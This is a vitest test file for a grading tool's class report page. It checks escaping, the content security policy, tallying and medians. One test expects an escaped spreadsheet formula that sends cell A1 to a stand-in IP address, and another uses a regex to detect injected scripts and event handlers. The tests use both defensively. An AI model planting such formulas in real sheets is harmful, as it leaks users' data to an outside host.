import { createHash } from 'node:crypto';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { classReport } from '#grading/formats/report/class-report.ts';
import { reportStyles } from '#grading/formats/report/styles.node.ts';
import { keyOf, medianOf, tallyOf } from '#grading/formats/report/tally.ts';
import { aClass, everybody } from './support/a-class.ts';

const css = (await reportStyles(join(import.meta.dirname, '../../..'))) ?? '';
const page = (language: 'en' | 'ja') => classReport(everybody, language, css).content;

test('the report holds no script, no style of an element and nothing from elsewhere', () => {
  const html = page('en');
  expect(html).not.toMatch(/<script|<link|<img|\sstyle=|\son\w+=|url\(|@import/);
  const hash = createHash('sha256').update(css).digest('base64');
  expect(html).toContain(`default-src 'none'; style-src 'sha256-${hash}'"`);
});

test('names and output of submissions stay text', () => {
  const html = page('en');
  expect(html).toContain('=HYPERLINK(&quot;http://203.0.113.9/?&quot;&amp;A1)');
  expect(html).toContain(']]&gt; &lt;b&gt;&amp;amp;&lt;/b&gt; &quot;quoted&quot;');
});

test('the same class in any order is the same page', () => {
  expect(classReport(everybody.toReversed(), 'ja', css).content).toBe(page('ja'));
});

test('refusals and trouble of the environment are no zero points', () => {
  const { marks, graded } = tallyOf(everybody);
  expect(marks).toHaveLength(7);
  expect(graded.map(({ score }) => score)).toEqual([100, 50, 0, 30, 0]);
  expect(page('en')).toContain('<h1>1 of 7 have full points</h1>');
});

test('a condition counts the submissions for which it was judged', () => {
  const { conditions } = tallyOf(everybody);
  const told = conditions.map(({ key, failed, judged }) => [key, failed, judged]);
  expect(told).toEqual([
    [keyOf('L03', 'path', 'reach-logs'), 2, 6],
    [keyOf('L03', 'path', 'internet'), 1, 6],
    [keyOf('L03', 'path', 'two-zones'), 0, 5],
    [keyOf('L03', 'permission', 'may-write'), 1, 3],
  ]);
});

test('what nobody reached is not said to hold', () => {
  const html = classReport([aClass.wide], 'en', css).content;
  expect(html).toContain('Others, which fail for nobody: 2<');
  expect(html).toContain('Others, which come later and nobody reached: 1<');
});

test('wrong fixes are told by their titles, with who made them', () => {
  const { wrongFixes } = tallyOf([aClass.wide, aClass.right, { ...aClass.wide, submission: 'z' }]);
  expect(wrongFixes.map(({ fix, by }) => [fix.title.ja, by])).toEqual([
    ['NAT ゲートウェイ', [0, 2]],
  ]);
});

test.for<[scores: readonly number[], median: number | undefined]>([
  [[], undefined],
  [[40], 40],
  [[100, 0, 30], 30],
  [[0, 100, 50, 30], 40],
])('the median of %o is %o', ([scores, median]) => {
  expect(medianOf(scores)).toBe(median);
});
